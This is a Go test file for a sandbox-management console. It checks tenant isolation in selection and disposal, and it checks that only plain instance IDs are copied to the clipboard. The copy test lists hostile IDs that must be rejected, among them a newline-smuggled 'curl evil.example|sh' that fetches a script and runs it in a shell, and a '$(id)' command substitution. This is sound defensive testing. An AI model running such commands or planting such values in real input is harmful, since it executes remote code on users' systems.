package console

import (
	"strings"
	"testing"

	"github.com/maf-sandbox/maf-sandbox-go/control"
)

// tenants are sandboxes of two conversations whose keys read the same when
// their parts are joined by slashes.
func tenants() (one, other control.Record) {
	r := sandboxes("h", 2)
	r[0].Scope, r[0].ThreadID, r[0].InstanceID = "acme", "eu/7", "one"
	r[1].Scope, r[1].ThreadID, r[1].InstanceID = "acme/eu", "7", "two"
	return r[0], r[1]
}

// neighbours stand before and behind the two.
func neighbours() (before, behind control.Record) {
	r := sandboxes("h", 2)
	r[0].Scope, r[1].Scope = "aaa", "zzz"
	return r[0], r[1]
}

func TestTheSelectionDoesNotGoToAnotherTenantWhoseKeyReadsTheSame(t *testing.T) {
	one, other := tenants()
	before, behind := neighbours()
	hosts := newHosts().add("h", before, one, behind)
	d := drive(t, hosts, 140, 36)
	d.press("down")
	if got := d.selectedID(); got != "one" {
		t.Fatalf("selected %s", got)
	}
	hosts.add("h", other, behind)
	d.look()
	if got := d.selectedID(); got != behind.InstanceID {
		t.Errorf("the selection went to %s", got)
	}
	for at, looks := range d.histories() {
		if at.spot.scope == other.Scope && len(looks) != 1 {
			t.Errorf("the other tenant's sandbox has a history of %d looks after one", len(looks))
		}
	}
}

func TestNothingIsDisposedOfWhenTheIDIsAnotherTenantsByNow(t *testing.T) {
	one, other := tenants()
	hosts := newHosts().add("h", one)
	d := drive(t, hosts, 80, 24)
	d.press("d", "tab")
	other.InstanceID = one.InstanceID
	hosts.add("h", other)
	d.look()
	d.sees("Nothing is disposed of")
	d.press("enter")
	if len(hosts.disposed) != 0 {
		t.Errorf("disposed of %v", hosts.disposed)
	}
}

func TestScopeAndThreadAreShownApart(t *testing.T) {
	one, other := tenants()
	for _, r := range []control.Record{one, other} {
		d := drive(t, newHosts().add("h", r), 140, 36)
		d.sees("SCOPE       "+r.Scope+" ", "THREAD      "+r.ThreadID+" ")
		for _, key := range []string{"d", "p"} {
			d.press(key)
			d.sees("scope "+r.Scope+" ", "thread "+r.ThreadID+" ")
			d.press("esc")
		}
	}
}

func TestOnlyAnIDThatNothingObeysIsCopied(t *testing.T) {
	for id, want := range map[string]bool{
		"9f15a25d-8c0d:4ea0.ab_1": true, "9f15a25d\ncurl evil.example|sh\n": false, "$(id)": false, "a b": false, "é": false, "": false, `a\b`: false,
	} {
		r := sandboxes("h", 1)
		r[0].InstanceID = id
		d := drive(t, newHosts().add("h", r...), 140, 36)
		d.press("y")
		if got := strings.HasSuffix(d.copy, " "+id) && d.copy != ""; got != want {
			t.Errorf("%q: %q was copied", id, d.copy)
		}
		if want {
			d.sees("Copied " + id)
		} else {
			d.sees("Not copied: this id has more than letters")
		}
	}
}
